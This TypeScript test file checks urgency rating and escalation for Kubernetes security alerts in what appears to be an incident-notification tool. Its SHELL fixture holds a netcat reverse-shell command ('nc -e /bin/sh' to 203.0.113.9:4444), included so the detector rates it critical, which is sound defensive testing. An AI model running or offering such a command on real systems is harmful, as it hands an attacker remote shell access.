import { describe, expect, it } from 'vitest'
import { loadKnowledge } from '../../src/knowledge/load.ts'
import { finish } from '../../src/lib/steps.ts'
import { createRate, escalation, withUrgency } from '../../src/notify/rate.ts'
import type { ParsedRecord } from '../../src/notify/record.ts'
import { createRecordingLog } from '../deliver/fixtures.ts'
import { alertText, type AlertBody } from '../support/alerts.ts'
import { reportInput } from '../support/events.ts'

const SHELL: Partial<AlertBody> = {
  output_fields: {
    'k8s.ns.name': 'shop',
    'k8s.pod.name': 'web-6d4cf56db6-x7k2p',
    'proc.name': 'sh',
    'proc.cmdline': 'sh -c nc -e /bin/sh 203.0.113.9 4444',
  },
}

function record(...bodies: readonly Partial<AlertBody>[]): ParsedRecord {
  const { incident, alerts, omitted } = reportInput(bodies.map((body) => alertText(body)))
  return { incident, alerts, omitted, decisions: [] }
}

describe('the urgency of a stored incident', () => {
  const log = createRecordingLog()
  const steps = createRate(loadKnowledge(null), log)
  const rate = (of: ParsedRecord) => finish(steps(of))

  it('is that of its signs, and an escalation once', () => {
    const shell = record(SHELL)
    const urgency = rate(shell)
    expect(urgency.level).toBe('now')
    expect(escalation(shell.incident, urgency, 7)).toMatchObject({
      at: 7,
      kind: 'escalated',
      sink: null,
      reason:
        'Treat as critical: likely reverse shell; The command gives a shell to somebody on the network',
    })
    const rated = withUrgency(shell.incident, urgency)
    expect(rated).toMatchObject({ urgency: 'now', priority: 'Notice' })
    expect(escalation(rated, urgency, 8)).toBeNull()
  })

  it('is no escalation when the priority alone makes it urgent, or no sign is met', () => {
    const critical = record({ ...SHELL, priority: 'Critical' })
    expect(escalation(critical.incident, rate(critical), 7)).toBeNull()
    const quiet = record({})
    expect(escalation(quiet.incident, rate(quiet), 7)).toBeNull()
  })

  it('is never lowered', () => {
    const { incident } = record(SHELL)
    const urgent = withUrgency(incident, rate(record(SHELL)))
    expect(withUrgency(urgent, rate(record({})))).toBe(urgent)
  })

  it('is that of the priority when its alerts are gone, or a playbook is broken', () => {
    const { incident } = record({ priority: 'Warning' })
    expect(rate({ incident, alerts: [], omitted: 1, decisions: [] }).level).toBe('today')
    const broken = createRate(
      {
        playbookFor: () => {
          throw new Error('unreadable')
        },
      },
      log,
    )
    expect(finish(broken(record(SHELL)))).toMatchObject({ level: 'later', verdict: null })
    expect(log.lines).toHaveLength(1)
  })
})
